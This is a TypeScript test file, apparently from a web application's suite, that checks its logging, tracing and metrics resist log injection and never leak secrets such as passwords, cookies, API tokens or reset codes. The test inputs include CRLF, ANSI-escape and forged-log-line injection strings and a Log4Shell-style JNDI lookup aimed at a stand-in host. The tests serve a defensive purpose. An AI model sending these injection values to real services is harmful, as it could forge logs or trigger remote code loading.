import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createLineWriter } from '../../src/platform/telemetry/standard/lines.ts';
import { eventually } from '../harness/eventually.ts';
import { operator, sameOrigin, signedUp } from '../harness/people.ts';
import { testProgram } from '../harness/program.ts';
import { ask, askForm, askJson, asRecord, type Got } from './support/ask.ts';
import { exchange } from './support/raw.ts';

/** OBS-1: a request is one line, whatever it brings along, and no line tells a secret. */
const under = await testProgram({ settings: { 'trusted-proxies': '127.0.0.1' } });
const FORGED = '{"level":"error","msg":"forged"}';

test('log injection: a request is one line, and nothing in it can pass for another', async () => {
  const before = under.telemetry.lines.length;
  const heads = [
    `user-agent: x\x1b[2J\x1b[31m${FORGED}`,
    `user-agent: x\x85${FORGED}`,
    `user-agent: x\u2028${FORGED}`,
    `traceparent: 00-${'0'.repeat(31)}1-00f067aa0ba902b7-01 ${FORGED}`,
    `traceparent: ${FORGED}`,
    'traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01\r\ntraceparent: again',
    `x-forwarded-for: 203.0.113.7\x85${FORGED}`,
    'x-forwarded-for: \x9b31m, ${jndi:ldap://evil}',
    `referer: http://x/%0d%0a${FORGED}`,
    `authorization: Bearer ${FORGED.replaceAll(' ', '')}`,
  ];
  const targets = [
    '/',
    '/%0d%0a%7b%22level%22%3a%22error%22%7d',
    '/%1b%5b31m',
    '/api/v1/users/%0a?a=%0ab',
    '/%zz',
  ];
  let asked = 0;
  for (const head of heads) {
    for (const target of targets) {
      const request = `GET ${target} HTTP/1.1\r\nhost: localhost\r\n${head}\r\nconnection: close\r\n\r\n`;
      const answer = await exchange(under, Buffer.from(request, 'latin1'));
      if (!answer.includes('malformed-request')) asked++;
    }
  }
  const made = () => under.telemetry.lines.slice(before);
  await eventually(() => assert.equal(made().length, asked));
  assert.ok(asked >= 40, `${asked}`);
  for (const format of ['json', 'text'] as const) {
    const written = render(format, made());
    assert.equal(written.length, asked);
    for (const line of written) {
      assert.match(line, /^[^\n]+\n$/);
      assert.doesNotMatch(line, /[\p{Cc}\u2028\u2029]./u, 'there is a control character inside the line');
    }
  }
  assert.deepEqual(new Set(made().map(({ msg }) => msg)), new Set(['request']));
  assert.deepEqual(
    made().filter(({ level }) => level !== 'info'),
    [],
  );
});

test('names that people give themselves reach no line', async () => {
  const person = await signedUp(under, 'anna');
  const before = under.telemetry.lines.length;
  for (const displayName of [FORGED, 'Anna <script>', 'level=error msg=forged'])
    await person.client.updateAccount({ body: { displayName } });
  assert.doesNotMatch(JSON.stringify(under.telemetry.lines.slice(before)), /forged|script/);
});

test('after a whole journey no secret is in any line, span or metric', async () => {
  const secrets: Record<string, string> = {};
  const boss = await operator(under);
  secrets['the code of the operator link'] =
    new URL(under.program.operatorLink?.url ?? '').searchParams.get('code') ?? '';
  secrets['the password of the operator'] = boss.password;
  const person = await signedUp(under, 'berta');
  const headers = { cookie: person.cookie, ...sameOrigin(under.url) };
  secrets['a password'] = person.password;
  secrets['a cookie'] = person.cookie.split('.')[1] ?? '';
  secrets['the cookie of the operator'] = boss.cookie.split('.')[1] ?? '';

  const wrong = (secrets['a wrong password'] = 'an owl that was never seen');
  await post('/api/v1/sessions', {}, { email: person.email, password: wrong });
  await askForm(under, { path: '/sign-in', headers, fields: { email: person.email, password: wrong } });
  const token = await post('/api/v1/account/tokens', { ...headers, 'idempotency-key': 'k-1' }, TOKEN);
  secrets['an API token'] = String(token.json()['secret']);
  const bearer = { authorization: `Bearer ${secrets['an API token']}` };
  const service = await post('/api/v1/service-tokens', bearer, { audience: under.url, scopes: [] });
  secrets['a service token'] = String(service.json()['token']);
  await ask(under, {
    path: '/api/v1/account',
    headers: { authorization: `Bearer ${secrets['a service token']}` },
  });
  await ask(under, { path: `/api/v1/account?token=${secrets['an API token']}`, headers: bearer });
  const form = await askForm(under, {
    path: '/account/tokens',
    headers,
    fields: { name: 'x', scope: 'service', days: '' },
  });
  secrets['an API token of a form'] = /bsht_\w+/.exec(form.text)?.[0] ?? '';

  const options = await post('/api/v1/account/passkeys/options', headers, undefined);
  secrets['a challenge'] = String(asRecord(options.json()['options'])['challenge']);
  const bossHeaders = { cookie: boss.cookie, ...sameOrigin(under.url) };
  const link = await post(`/api/v1/users/${person.userId}/password-link`, bossHeaders, undefined);
  const code = new URL(String(link.json()['url'])).searchParams.get('code') ?? '';
  secrets['the code of a password link'] = code;
  await ask(under, { path: `/new-password?code=${code}` });
  await ask(under, { path: `/new-password/${code}` });
  const password = (secrets['a new password'] = 'nine herons over the marsh');
  const chosen = await askForm(under, {
    path: '/new-password',
    headers: sameOrigin(under.url),
    fields: { code, password },
  });
  assert.equal(chosen.status, 303);
  secrets['a new cookie'] = /session=[\w-]+\.([\w-]+)/.exec(String(chosen.cookies))?.[1] ?? '';
  await ask(under, {
    path: '/account',
    headers: { cookie: `session=${crypto.randomUUID()}.${secrets['a new cookie']}` },
  });

  const { text: metrics } = await ask(under, { path: '/metrics' });
  const told = JSON.stringify([under.telemetry.lines, under.telemetry.spans]) + metrics;
  assert.ok(told.length > 10_000);
  for (const [what, secret] of Object.entries(secrets)) {
    assert.ok(secret.length >= 20, `${what} is missing from the journey`);
    for (const form of [secret, encodeURIComponent(secret), Buffer.from(secret).toString('base64')])
      assert.ok(!told.includes(form), `${what} was told`);
  }
  assert.ok(!told.includes(person.email) && !told.includes(boss.email), 'an address was told');
});

test('every line of a request names its trace, and the trace of the caller is continued', async () => {
  const traceId = '4bf92f3577b34da6a3ce929d0e0e4736';
  const headers = { traceparent: `00-${traceId}-00f067aa0ba902b7-01` };
  const answer = await ask(under, { path: '/nothing', headers });
  assert.equal(answer.json()['traceId'], traceId);
  await eventually(() =>
    assert.ok(under.telemetry.lines.some(line => line.msg === 'request' && line['traceId'] === traceId)),
  );
});

function post(path: string, headers: Record<string, string>, json: unknown): Promise<Got> {
  if (json === undefined) return ask(under, { method: 'POST', path, headers });
  return askJson(under, { method: 'POST', path, headers, json });
}

/** The lines as they are written outside of tests. */
function render(format: 'json' | 'text', lines: typeof under.telemetry.lines): string[] {
  const written: string[] = [];
  const destination = { write: (line: string) => void written.push(line) };
  const write = createLineWriter({ clock: under.clock, destination, format, colours: false });
  for (const { level, msg, time: _time, ...fields } of lines) write(level, msg, fields);
  return written;
}

const TOKEN = { name: 'laptop', scopes: ['account:read', 'service'] };
